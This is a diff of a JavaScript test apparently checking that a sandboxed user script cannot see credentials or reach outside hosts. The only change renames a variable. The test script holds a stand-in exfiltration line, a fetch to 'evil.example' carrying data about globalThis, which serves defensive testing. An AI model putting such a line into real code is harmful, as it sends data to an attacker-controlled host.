@@ -313,10 +313,10 @@ describe('credentials', () => {
   })
   test('never enter a script, which still reaches its service', async () => {
     const source = `
-      const answer = await fetch('${origin}/as-me', { headers: { 'x-mine': '1' } })
+      const response = await fetch('${origin}/as-me', { headers: { 'x-mine': '1' } })
       let other = null
       try { await fetch('https://evil.example/' + JSON.stringify(globalThis).length) } catch (error) { other = String(error) }
-      return { body: await answer.json(), url: answer.url, keys: Object.keys(state), other }`
+      return { body: await response.json(), url: response.url, keys: Object.keys(state), other }`
     const slug = await secured({ script: { language: 'javascript', source } })
     const { data, text } = await run(slug, { arguments: { a: 1 }, ...bearer('secured') })
     assert.equal(data.error, null, text)
